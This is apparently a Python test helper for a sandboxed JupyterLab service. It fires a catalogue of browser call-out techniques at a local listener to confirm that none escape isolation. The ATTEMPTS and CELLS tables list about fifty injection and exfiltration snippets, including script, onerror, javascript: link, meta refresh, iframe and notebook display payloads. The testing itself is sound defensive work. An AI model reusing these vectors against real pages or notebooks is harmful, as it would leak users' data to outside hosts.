"""What a hostile page or cell tries in a real browser, and the listener that must hear none.

Shared by the browser suite and by ``benchmarks/attacks_screen.py``.
"""

import http.server
import re
import shutil
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager

from playwright.sync_api import Browser, Frame, Page, sync_playwright

from sandbox.backends.interface import Endpoint
from tests.integration.session_parts import Stage

ATTEMPTS = {
    "fetch": "fetch(URL + 'fetch', {mode: 'no-cors'}).catch(() => 0)",
    "image": "new Image().src = URL + 'image'",
    "beacon": "navigator.sendBeacon(URL + 'beacon', 'x')",
    "websocket": "new WebSocket(URL.replace('http', 'ws') + 'websocket')",
    "event source": "new EventSource(URL + 'events')",
    "script": "add('script', {src: URL + 'script'})",
    "stylesheet": "add('link', {rel: 'stylesheet', href: URL + 'style'})",
    "prefetch": "add('link', {rel: 'prefetch', href: URL + 'prefetch'})",
    "preconnect": "add('link', {rel: 'preconnect', href: URL})",
    "frame": "add('iframe', {src: URL + 'frame'})",
    "object": "add('object', {data: URL + 'object'})",
    "video": "add('video', {src: URL + 'video'})",
    "form": "const f = add('form', {action: URL + 'form', method: 'post'}); f.submit()",
    "window": "window.open(URL + 'window')",
    "blank link": "add('a', {href: URL + 'blank', target: '_blank'}).click()",
    "top": "try { window.top.location = URL + 'top' } catch (error) {}",
    "style import": "add('style', {textContent: `@import '${URL}import'`})",
    "service worker": "navigator.serviceWorker.register('/static/x.js').catch(() => 0)",
    "own frame": "window.location = URL + 'own'",
    "worker": "new Worker(URL + 'worker')",
    "worker fetch": (
        "const blob = new Blob([`fetch('${URL}blob', {mode: 'no-cors'})`]);"
        "new Worker(window.URL.createObjectURL(blob))"
    ),
    "inline handler": "add('div', {innerHTML: `<img src=x onerror=\"fetch('${URL}handler')\">`})",
    "inline script": "add('script', {textContent: `fetch('${URL}inline', {mode: 'no-cors'})`})",
    "javascript link": (
        "add('a', {href: `javascript:fetch('${URL}link', {mode: 'no-cors'})`}).click()"
    ),
    "meta refresh": "add('meta', {httpEquiv: 'refresh', content: `0;url=${URL}refresh`})",
    "base": "add('base', {href: URL}); new Image().src = 'based'",
    "background": "add('div', {style: `background:url(${URL}background)`, textContent: 'x'})",
    "font": "new FontFace('x', `url(${URL}font)`).load().catch(() => 0)",
    "ping": "add('a', {href: '#x', ping: URL + 'ping'}).click()",
    "srcdoc": "add('iframe', {srcdoc: `<img src='${URL}srcdoc'>`})",
    "data frame": "add('iframe', {src: `data:text/html,<img src='${URL}data'>`})",
    "svg image": (
        "add('img', {src: `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
        "<image href='${URL}svg'/></svg>`})"
    ),
    "import": "import(URL + 'module').catch(() => 0)",
    "web transport": "new WebTransport(URL.replace('http:', 'https:') + 'transport')",
    "speculation": (
        "add('script', {type: 'speculationrules', textContent: JSON.stringify("
        "{prefetch: [{source: 'list', urls: [URL + 'speculation']}]})})"
    ),
    "parent": "try { window.parent.document.body.append(URL) } catch (error) {}",
    "xslt": "add('object', {type: 'image/svg+xml', data: URL + 'xslt'})",
    "keepalive": "fetch(URL + 'keepalive', {keepalive: true, mode: 'no-cors'}).catch(() => 0)",
}
"""What a script in a page of the session tries; ``URL`` is the listener."""
CELLS = {
    "html script": "HTML('<script>fetch(`{url}cell1`)</script>')",
    "html image": "HTML('<img src=\"{url}cell2\">')",
    "html handler": "HTML('<img src=x onerror=\"fetch(`{url}cell3`)\">')",
    "html refresh": "HTML('<meta http-equiv=refresh content=\"0;url={url}cell4\">')",
    "html frame": "HTML('<iframe src=\"{url}cell5\"></iframe>')",
    "html style": "HTML('<style>@import \"{url}cell6\"</style>')",
    "javascript": "Javascript('fetch(`{url}cell7`)')",
    "svg": 'SVG(\'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}cell8"/></svg>\')',
    "markdown": "Markdown('![x]({url}cell9) <img src=\"{url}cell9b\">')",
    "latex": "Latex('$\\\\includegraphics{{{url}cell10}}$')",
    "vega": "display({{'application/vnd.vegalite.v5+json': {{'data': {{'url': '{url}cell11'}}, "
    "'mark': 'bar'}}}}, raw=True)",
    "iframe": "IFrame('{url}cell12', 10, 10)",
    "plain image": "Image(url='{url}cell13')",
}
"""What a cell may display to make its reader's browser call out; ``url`` is the listener."""
PREAMBLE = (
    "from IPython.display import HTML, IFrame, Image, Javascript, Latex, Markdown, SVG, display"
)
ADD = """
const add = (tag, fields) => {
  const element = Object.assign(document.createElement(tag), fields)
  document.body.append(element)
  return element
};
"""
LAB_MILLISECONDS_MAX = 120_000


@contextmanager
def foreign_listener() -> Iterator[tuple[str, list[str]]]:
    """Listen on another origin; give its address and every path that it was asked for."""
    hits: list[str] = []

    class Listen(http.server.BaseHTTPRequestHandler):
        def __getattr__(self, name: str) -> Callable[[], None]:
            if name.startswith("do_"):
                return self.answer
            raise AttributeError(name)

        def answer(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_words: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listen)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/", hits
    server.shutdown()
    server.server_close()
    thread.join()


@contextmanager
def chromium() -> Iterator[Browser]:
    """Start the installed Chromium."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=shutil.which("chromium"), args=["--no-sandbox"]
        )
        yield browser
        browser.close()


def enter(page: Page, opened: Stage, endpoint: Endpoint, language: str = "zh") -> Frame:
    """Open a session through the platform's page; return its frame once JupyterLab is there."""
    address = f"http://sandgate.localhost:{opened.port}/sessions/{endpoint.slot}/view"
    page.goto(f"{address}?language={language}")
    inner = page.frame_locator("iframe")
    inner.locator("#jp-main-dock-panel").wait_for(timeout=LAB_MILLISECONDS_MAX)
    return page.frames[1]


def attempt(page: Page, opened: Stage, endpoint: Endpoint, url: str, name: str) -> Frame:
    """Run one attempt in a page of the session's origin, under its headers and its frame."""
    inside = f"{opened.proxy.session_origin(endpoint.slot)}/api/status"
    frame = page.frames[1]
    with page.expect_response(inside):
        page.evaluate(f"document.querySelector('iframe').src = {inside!r}")
    page.wait_for_timeout(150)
    if frame.url != inside:
        raise AssertionError(f"the frame stands at {frame.url}")
    code = f"const URL = {url!r}; {ADD} {ATTEMPTS[name]}"
    frame.evaluate(f"(() => {{ setTimeout(() => {{ {code} }}, 10) }})()")
    page.wait_for_timeout(300)
    return frame


def open_notebook(frame: Frame) -> None:
    """Open a new notebook as a person does, and stand in its first cell."""
    frame.locator(".jp-LauncherCard[data-category=笔记本]").first.click()
    idle = re.compile(r"\(Sandgate\) \| (?:Idle|空闲)")
    frame.get_by_text(idle).first.wait_for(timeout=60_000)
    frame.locator(".jp-Notebook .cm-content").first.click()


def run_cell(page: Page, code: str) -> None:
    """Put a line into the cell that is open, and run it."""
    page.keyboard.insert_text(code)
    page.keyboard.press("Shift+Enter")
    page.wait_for_timeout(350)
